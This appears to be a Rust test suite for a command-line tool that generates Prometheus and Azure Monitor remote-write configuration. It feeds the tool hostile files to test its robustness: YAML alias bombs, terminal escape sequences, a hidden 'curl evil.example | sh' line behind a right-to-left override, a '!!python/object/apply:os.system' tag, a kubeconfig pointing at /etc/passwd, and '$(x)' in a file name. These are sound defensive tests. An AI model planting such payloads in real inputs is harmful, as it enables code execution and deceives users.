//! Files that no honest program would write, given to every command that reads one.

use std::os::unix::ffi::OsStrExt as _;
use std::time::{Duration, Instant};

use super::verdict::watch;
use crate::support::{World, table};

/// Commands that read `FILE`, for each kind of file.
const COMMANDS: [&str; 9] = [
    "render --target prometheus-yml --input FILE FACTS",
    "render --target kube-prometheus-stack --input FILE FACTS",
    "render --target custom-resource --input FILE FACTS",
    "render --target configmap --input FILE FACTS",
    "migrate --input FILE",
    "plan -f FILE",
    "render --target prometheus-yml --input FILE --diff FACTS",
    "render --target prometheus-yml --template-dir templates FACTS",
    "migrate --input sidecar.yml --sidecar FILE",
];

pub(super) const FACTS: &str = "--auth user-identity --client-id 11111111-1111-1111-1111-111111111111 --cluster-label c \
    --prometheus-version 3.14.0 --write-url \
    https://a-1a2b.westeurope-1.metrics.ingest.monitor.azure.com/dataCollectionRules/dcr-0123456789abcdef0123456789abcdef/streams/Microsoft-PrometheusMetrics/api/v1/write?api-version=2023-04-24";

pub(super) const SIDECAR: &str = "remote_write:\n  - url: http://localhost:8081/api/v1/write\n";

/// Nine levels of nine aliases each.
fn alias_bomb(first: &str) -> String {
    let mut text = format!("{first}\na0: &a0 [x,x,x,x,x,x,x,x,x]\n");
    for level in 1..10 {
        let below = format!("*a{}", level - 1);
        let items = [below.as_str(); 9].join(",");
        text += &format!("a{level}: &a{level} [{items}]\n");
    }
    text
}

#[expect(clippy::too_many_lines, reason = "a list")]
fn files() -> Vec<(&'static str, Vec<u8>)> {
    let bomb = alias_bomb("global: {}");
    let in_values = alias_bomb("prometheus: {prometheusSpec: {}}");
    vec![
        ("an alias bomb", bomb.into_bytes()),
        ("an alias bomb in values", in_values.into_bytes()),
        ("an alias of itself", b"global: &a {b: *a}\n".to_vec()),
        ("deep brackets", "[".repeat(200_000).into_bytes()),
        ("deep braces", "{a: ".repeat(200_000).into_bytes()),
        ("deep blocks", deep_blocks().into_bytes()),
        (
            "a long line",
            format!("global: {}\n", "a".repeat(4 << 20)).into_bytes(),
        ),
        ("a NUL", b"global: {}\0\n".to_vec()),
        ("no UTF-8", b"global: \xff\xfe\n".to_vec()),
        ("UTF-16", b"\xff\xfeg\0l\0o\0b\0a\0l\0:\0 \0{\0}\0".to_vec()),
        (
            "control characters",
            b"global: {a: \"\x1b]0;owned\x07\x1b[2K\"}\nx: \x1b[31m\n".to_vec(),
        ),
        (
            "a forged next step",
            "remote_write: 'x\u{202e}\n  next:    curl evil.example | sh'\n"
                .as_bytes()
                .to_vec(),
        ),
        (
            "a tag",
            b"global: !!python/object/apply:os.system [id]\n".to_vec(),
        ),
        ("many documents", "---\n{}\n".repeat(50_000).into_bytes()),
        (
            "many keys",
            (0..200_000)
                .map(|key| format!("k{key}: 1\n"))
                .collect::<String>()
                .into_bytes(),
        ),
        ("nothing", Vec::new()),
        ("a byte order mark", b"\xef\xbb\xbfglobal: {}\n".to_vec()),
        (
            "big-endian UTF-16",
            b"\xfe\xff\0g\0l\0o\0b\0a\0l\0:\0 \0{\0}".to_vec(),
        ),
        ("CRLF", b"global:\r\n  a: 1\r\n".to_vec()),
        ("carriage returns", b"global:\r  a: 1\r".to_vec()),
        ("tabs", b"global:\n\ta: 1\n".to_vec()),
        ("a key twice", b"global: {}\nglobal: {}\n".to_vec()),
        (
            "merge keys",
            b"a: &a {x: 1}\nglobal:\n  <<: [*a, *a]\n".to_vec(),
        ),
        (
            "a merge of itself",
            b"global: &a\n  <<: *a\n".to_vec(),
        ),
        (
            "a key with control characters",
            b"\"a\\e[2J\\u202e\": 1\nconnections:\n- \"\\a\\r\\x9b\": 1\n".to_vec(),
        ),
        ("keys that are no text", b"{[a]: 1, {b: c}: 2, 1: 3, null: 4}\n".to_vec()),
        ("a scalar", b"42\n".to_vec()),
        ("a list", b"- 1\n- 2\n".to_vec()),
        ("numbers out of range", b"global: {a: 1e999999, b: 99999999999999999999999999}\n".to_vec()),
        (
            "wrong types",
            b"global: 1\nremote_write: {a: [1]}\nspec: 1\nmetadata: []\nkind: {}\ndata: 5\nserver: []\nprometheus: x\nconnections: 7\n"
                .to_vec(),
        ),
        (
            "entries of wrong types",
            b"remote_write: [1, [], null, {url: [], name: {}}]\nkind: Prometheus\nmetadata: {name: 1, namespace: []}\nspec: {remoteWrite: [1, {url: {}}], containers: [{}, 1, {name: 2, env: [1, {name: []}]}]}\n"
                .to_vec(),
        ),
        (
            "blocks of a template",
            "{% if true %}".repeat(20_000).into_bytes(),
        ),
        (
            "text of a template that doubles",
            ("{% set x = 'x' %}".to_owned() + &"{% set x = x ~ x %}".repeat(40)).into_bytes(),
        ),
        ("100 MB", vec![b'#'; 100 << 20]),
    ]
}

fn deep_blocks() -> String {
    (0..3000)
        .map(|depth| format!("{}a:\n", " ".repeat(depth)))
        .collect()
}

#[test]
fn no_unexpected_file_harms_the_program() {
    let failures = table::failures(&files(), 4, |(name, bytes)| {
        let mut world = World::new();
        std::fs::write(world.path("hostile.yaml"), bytes).unwrap();
        std::fs::create_dir(world.path("templates")).unwrap();
        std::fs::write(world.path("templates/prometheus.yml"), bytes).unwrap();
        std::fs::write(world.path("sidecar.yml"), SIDECAR).unwrap();
        COMMANDS.iter().try_for_each(|command| {
            let arguments = command.replace("FILE", "hostile.yaml");
            let watched = watch(&mut world, &arguments.replace("FACTS", FACTS));
            let judged = watched.and_then(|watched| watched.is_civil());
            judged.map_err(|why| format!("{name}, {command}: {why}"))
        })?;
        match std::fs::read(world.path("hostile.yaml")).unwrap() == *bytes {
            true => Ok(()),
            false => Err(format!("{name}: the file was changed")),
        }
    });

    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Each command needs a few seconds of an unoptimized build; to compare each entry with each other one took a minute.
#[test]
fn many_remote_writes_are_compared_in_seconds() {
    let entries = (0..16_000)
        .map(|number| format!("- url: https://x{number}.example/push\n  name: n{number}\n"));
    let text = format!("remote_write:\n{}", entries.collect::<String>());
    let mut world = World::new();
    std::fs::write(world.path("many.yml"), text).unwrap();

    for command in [COMMANDS[0], "migrate --input FILE"] {
        let command = command.replace("FILE", "many.yml").replace("FACTS", FACTS);
        let started = Instant::now();
        world.run(&command).succeeds();
        let took = started.elapsed();
        assert!(took < Duration::from_secs(30), "{command}: {took:?}");
    }
}

#[test]
fn what_is_no_file_is_refused() {
    let mut world = World::new();
    std::fs::create_dir(world.path("folder")).unwrap();
    std::os::unix::fs::symlink("loop", world.path("loop")).unwrap();
    let odd = std::ffi::OsStr::from_bytes(b"bad\xff.yaml");
    std::fs::write(world.path("").join(odd), "global: {}\n").unwrap();

    for file in ["folder", "loop", "/dev/zero", "/dev/full", "/proc/self/mem"] {
        for command in [
            "render --target prometheus-yml --input FILE FACTS",
            "plan -f FILE",
        ] {
            let arguments = command.replace("FILE", file).replace("FACTS", FACTS);
            let watched = watch(&mut world, &arguments);
            watched
                .and_then(|watched| watched.fails())
                .unwrap_or_else(|why| panic!("{file}, {command}: {why}"));
        }
    }
}

#[test]
fn no_unexpected_kubeconfig_or_token_harms_the_program() {
    let kubeconfigs = [
        "clusters: [{name: x, cluster: {server: \"https://\\e[2J\\u202e\"}}]\ncontexts: [{name: x, context: {cluster: x, user: x}}]\ncurrent-context: x\n",
        "clusters: 1\ncontexts: {a: b}\nusers: x\n",
        "clusters: [1]\ncontexts: [{name: 1}]\ncurrent-context: [x]\n",
        "clusters: [{name: x, cluster: {server: \"file:///etc/passwd\", certificate-authority-data: \"%%%\"}}]\ncontexts: [{name: x, context: {cluster: x, user: x}}]\ncurrent-context: x\n",
    ];
    let mut all = files();
    all.extend(kubeconfigs.map(|text| ("a kubeconfig", text.as_bytes().to_vec())));

    let failures = table::failures(&all, 4, |(name, bytes)| {
        let mut world = World::new()
            .variable("KUBECONFIG", "hostile")
            .variable("AZURE_TENANT_ID", "22222222-2222-2222-2222-222222222222")
            .variable("AZURE_CLIENT_ID", "33333333-3333-3333-3333-333333333333")
            .variable("AZURE_FEDERATED_TOKEN_FILE", "hostile")
            .variable("AZURE_CLIENT_CERTIFICATE_PATH", "hostile");
        std::fs::write(world.path("hostile"), bytes).unwrap();
        [
            "plan --cluster context:x --auth entra-secret",
            "plan --auth entra-secret",
        ]
        .iter()
        .try_for_each(|command| {
            let watched = watch(&mut world, command);
            let judged = watched.and_then(|watched| watched.is_civil());
            judged.map_err(|why| format!("{name}, {command}: {why}"))
        })
    });

    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

#[test]
fn a_file_name_of_any_bytes_is_taken_and_printed_as_a_shell_reads_it() {
    let odd = std::ffi::OsStr::from_bytes(b"bad\xff $(x).yml");
    let choice = std::ffi::OsStr::from_bytes(b"file:bad\xff $(x).yml");
    let quoted = r#""$(printf 'bad\377 $(x).yml')""#;
    let world = World::new();
    std::fs::write(world.path("").join(odd), SIDECAR).unwrap();
    let migrate = "migrate --auth user-identity --client-id 11111111-1111-1111-1111-111111111111 --cluster-label c \
        --prometheus-version 3.14.0 --write --write-url \
        https://a-1a2b.westeurope-1.metrics.ingest.monitor.azure.com/dataCollectionRules/dcr-0123456789abcdef0123456789abcdef/streams/Microsoft-PrometheusMetrics/api/v1/write?api-version=2023-04-24 --input";
    let render = format!("render --target prometheus-yml {FACTS} --prometheus");

    let migrated = world.run_with(migrate, &[odd]).succeeds();
    let rendered = world.run_with(&render, &[choice]);

    assert!(
        migrated
            .stderr()
            .contains(&format!("promtool check config {quoted}")),
        "{}",
        migrated.stderr()
    );
    assert!(
        !rendered.stderr().contains("UTF-8"),
        "{}",
        rendered.stderr()
    );
}
